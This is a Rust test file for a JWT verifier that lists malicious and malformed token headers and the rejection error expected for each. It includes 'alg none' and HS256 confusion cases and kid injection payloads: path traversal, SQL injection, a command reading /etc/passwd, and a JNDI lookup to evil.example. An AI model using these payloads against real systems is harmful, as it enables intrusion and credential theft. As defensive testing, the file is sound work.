//! Headers that would choose how they are judged.

use super::{Attack, Family};
use crate::forge::{Draft, Signer};
use serde_json::json;
use sluice::auth::AuthError::*;
use sluice::auth::Part;

pub const FAMILIES: &[Family] = &[
    Family {
        name: "header",
        good: with_unknown_members,
        attacks: HEADER,
    },
    Family {
        name: "kid injection",
        good: with_a_long_kid_elsewhere,
        attacks: KIDS,
    },
];

/// Members that nobody here reads do no harm.
fn with_unknown_members() -> Draft {
    let mut draft = Draft::entra_app();
    draft.header["x5t"] = json!("abc");
    draft.header["cty"] = json!("JWT");
    draft
}

fn with_a_long_kid_elsewhere() -> Draft {
    let mut draft = Draft::entra_app();
    draft.header["x-kid"] = json!("../../../../dev/null");
    draft
}

/// Where a key is fetched by its name, a name can be a path, a query or a command.
#[rustfmt::skip] // One attack a line.
const KIDS: &[Attack] = &[
    ("another key's path", |d| d.header["kid"] = json!("../ec\0"), KidUnusable),
    ("a query", |d| d.header["kid"] = json!("x' UNION SELECT 'key';--"), KidUnusable),
    ("a command", |d| d.header["kid"] = json!("key; cat /etc/passwd"), KidUnusable),
    ("a template", |d| d.header["kid"] = json!("${jndi:ldap://evil.example /}"), KidUnusable),
    ("a tab", |d| d.header["kid"] = json!("ec\t"), KidUnusable),
    ("a NUL", |d| d.header["kid"] = json!("ec\0"), KidUnusable),
    ("a delete", |d| d.header["kid"] = json!("ec\u{7f}"), KidUnusable),
    ("an escape sequence", |d| d.header["kid"] = json!("\u{1b}[31mec"), KidUnusable),
    ("a right-to-left override", |d| d.header["kid"] = json!("\u{202e}ce"), KidUnusable),
    ("a look-alike", |d| d.header["kid"] = json!("\u{435}c"), KidUnusable),
    ("a full-width look-alike", |d| d.header["kid"] = json!("\u{ff45}\u{ff43}"), KidUnusable),
    ("a byte order mark", |d| d.header["kid"] = json!("\u{feff}ec"), KidUnusable),
    ("one beyond the bound", |d| d.header["kid"] = json!("e".repeat(257)), KidUnusable),
    ("a list of names", |d| d.header["kid"] = json!(["ec", "rsa"]), KidUnusable),
    ("an object", |d| d.header["kid"] = json!({"kid": "ec"}), KidUnusable),
    ("null", |d| d.header["kid"] = json!(null), KidUnusable),
    ("true", |d| d.header["kid"] = json!(true), KidUnusable),
];

/// Puts a raw member at the front of the header.
fn header_first(draft: &mut Draft, member: &str) {
    draft.header_text = Some(
        draft
            .header
            .to_string()
            .replacen('{', &format!("{{{member},"), 1),
    );
}

fn header_bytes(draft: &mut Draft, text: &str) {
    draft.header_text = Some(text.to_owned());
}

#[rustfmt::skip] // One attack a line.
const HEADER: &[Attack] = &[
    ("header is empty JSON", |d| header_bytes(d, "{}"), AlgorithmMissing),
    ("header is no JSON", |d| header_bytes(d, "alg"), NotJson(Part::Header)),
    ("header is an array", |d| header_bytes(d, r#"["ES256"]"#), NotJson(Part::Header)),
    ("header is a string", |d| header_bytes(d, r#""ES256""#), NotJson(Part::Header)),
    ("header is null", |d| header_bytes(d, "null"), NotJson(Part::Header)),
    (
        "header with a byte order mark",
        |d| {
            header_bytes(d, "\u{feff}{\"alg\":\"ES256\",\"kid\":\"ec\"}");
        },
        NotJson(Part::Header),
    ),
    ("header with a trailing comma", |d| { header_bytes(d, r#"{"alg":"ES256","kid":"ec",}"#); }, NotJson(Part::Header)),
    ("header followed by more", |d| { header_bytes(d, r#"{"alg":"ES256","kid":"ec"}{}"#); }, NotJson(Part::Header)),
    ("alg twice", |d| header_first(d, r#""alg":"none""#), NotJson(Part::Header)),
    ("alg twice, once escaped", |d| header_first(d, r#""\u0061lg":"none""#), NotJson(Part::Header)),
    ("kid twice", |d| header_first(d, r#""kid":"rsa""#), NotJson(Part::Header)),
    ("alg none, signed", |d| d.header["alg"] = json!("none"), AlgorithmNone),
    ("alg none, unsigned", |d| { d.header["alg"] = json!("none"); d.signer = Signer::Nobody; }, AlgorithmNone),
    ("alg None", |d| d.header["alg"] = json!("None"), AlgorithmNone),
    ("alg NONE", |d| d.header["alg"] = json!("NONE"), AlgorithmNone),
    ("alg nOnE", |d| d.header["alg"] = json!("nOnE"), AlgorithmNone),
    ("alg HS256", |d| d.header["alg"] = json!("HS256"), AlgorithmShared),
    ("alg HS384", |d| d.header["alg"] = json!("HS384"), AlgorithmShared),
    ("alg HS512", |d| d.header["alg"] = json!("HS512"), AlgorithmShared),
    ("alg in lower case", |d| d.header["alg"] = json!("es256"), AlgorithmUnknown),
    ("alg ES512", |d| d.header["alg"] = json!("ES512"), AlgorithmUnknown),
    ("alg ES256K", |d| d.header["alg"] = json!("ES256K"), AlgorithmUnknown),
    ("alg Ed448", |d| d.header["alg"] = json!("Ed448"), AlgorithmUnknown),
    ("alg RS1", |d| d.header["alg"] = json!("RS1"), AlgorithmUnknown),
    ("alg of an encrypted token", |d| d.header["alg"] = json!("RSA-OAEP"), AlgorithmUnknown),
    ("alg dir", |d| d.header["alg"] = json!("dir"), AlgorithmUnknown),
    ("alg with a look-alike", |d| d.header["alg"] = json!("\u{415}S256"), AlgorithmUnknown),
    ("alg full-width", |d| d.header["alg"] = json!("\u{ff25}S256"), AlgorithmUnknown),
    ("alg with a NUL", |d| d.header["alg"] = json!("ES256\0"), AlgorithmUnknown),
    ("alg with a new line", |d| d.header["alg"] = json!("ES256\n"), AlgorithmUnknown),
    ("alg a number", |d| d.header["alg"] = json!(256), AlgorithmUnknown),
    ("alg true", |d| d.header["alg"] = json!(true), AlgorithmUnknown),
    ("alg an object", |d| d.header["alg"] = json!({"alg": "ES256"}), AlgorithmUnknown),
    ("alg hs256", |d| d.header["alg"] = json!("hs256"), AlgorithmUnknown),
    ("alg none with a space", |d| d.header["alg"] = json!("none "), AlgorithmUnknown),
    ("alg under another name", |d| header_bytes(d, r#"{"Alg":"ES256","kid":"ec"}"#), AlgorithmMissing),
    ("kid under another name", |d| header_bytes(d, r#"{"alg":"ES256","KID":"ec"}"#), KidMissing),
    ("crit that names what is known", |d| d.header["crit"] = json!(["alg"]), Critical),
    ("crit that names b64", |d| { d.header["crit"] = json!(["b64"]); d.header["b64"] = json!(false); }, Critical),
    ("crit false", |d| d.header["crit"] = json!(false), Critical),
    ("b64 a string", |d| d.header["b64"] = json!("false"), Unencoded),
    ("nonce empty", |d| d.header["nonce"] = json!(""), NonceHeader),
    ("nonce null", |d| d.header["nonce"] = json!(null), NonceHeader),
    ("typ empty", |d| d.header["typ"] = json!(""), TypeNotAccepted),
    ("typ null", |d| d.header["typ"] = json!(null), TypeNotAccepted),
    ("typ a list", |d| d.header["typ"] = json!(["JWT"]), TypeNotAccepted),
    ("a secevent token", |d| d.header["typ"] = json!("secevent+jwt"), TypeNotAccepted),
    ("an ID token of SIOP", |d| d.header["typ"] = json!("id_token+jwt"), TypeNotAccepted),
    ("a request object", |d| d.header["typ"] = json!("oauth-authz-req+jwt"), TypeNotAccepted),
    ("a PoP token", |d| d.header["typ"] = json!("pop"), TypeNotAccepted),
    ("typ with a look-alike", |d| d.header["typ"] = json!("J\u{405}T"), TypeNotAccepted),
    ("crit twice, the second empty", |d| header_bytes(d, r#"{"alg":"ES256","kid":"ec","crit":["x"],"crit":[]}"#), NotJson(Part::Header)),
    ("header with a comment", |d| header_bytes(d, r#"{"alg":"ES256",/**/"kid":"ec"}"#), NotJson(Part::Header)),
    ("header with single quotes", |d| header_bytes(d, "{'alg':'ES256','kid':'ec'}"), NotJson(Part::Header)),
    ("header with a lone surrogate", |d| header_bytes(d, r#"{"alg":"ES256","kid":"ec","x":"\ud800"}"#), NotJson(Part::Header)),
    ("header with a raw line break in a string", |d| header_bytes(d, "{\"alg\":\"ES256\",\"kid\":\"ec\",\"x\":\"a\nb\"}"), NotJson(Part::Header)),
    ("alg with a space", |d| d.header["alg"] = json!("ES256 "), AlgorithmUnknown),
    ("alg empty", |d| d.header["alg"] = json!(""), AlgorithmUnknown),
    ("alg null", |d| d.header["alg"] = json!(null), AlgorithmUnknown),
    ("alg a list", |d| d.header["alg"] = json!(["ES256"]), AlgorithmUnknown),
    ("crit", |d| d.header["crit"] = json!(["exp"]), Critical),
    ("crit, empty", |d| d.header["crit"] = json!([]), Critical),
    ("crit, null", |d| d.header["crit"] = json!(null), Critical),
    ("b64 false", |d| d.header["b64"] = json!(false), Unencoded),
    ("b64 true", |d| d.header["b64"] = json!(true), Unencoded),
    ("nonce, as Graph's tokens have", |d| d.header["nonce"] = json!("n0nce"), NonceHeader),
    ("a logout token", |d| d.header["typ"] = json!("logout+jwt"), TypeNotAccepted),
    ("a DPoP proof", |d| d.header["typ"] = json!("dpop+jwt"), TypeNotAccepted),
    ("an encrypted token's typ", |d| d.header["typ"] = json!("JWE"), TypeNotAccepted),
    ("typ a number", |d| d.header["typ"] = json!(1), TypeNotAccepted),
    ("no kid", |d| d.header = json!({"alg": "ES256"}), KidMissing),
    ("kid a number", |d| d.header["kid"] = json!(1), KidUnusable),
    ("kid empty", |d| d.header["kid"] = json!(""), KidUnusable),
    ("kid with a line break", |d| d.header["kid"] = json!("ec\r\nX: y"), KidUnusable),
    ("kid not ASCII", |d| d.header["kid"] = json!("ключ"), KidUnusable),
    ("kid with a space", |d| d.header["kid"] = json!("e c"), KidUnusable),
    ("kid too long", |d| d.header["kid"] = json!("k".repeat(257)), KidUnusable),
];
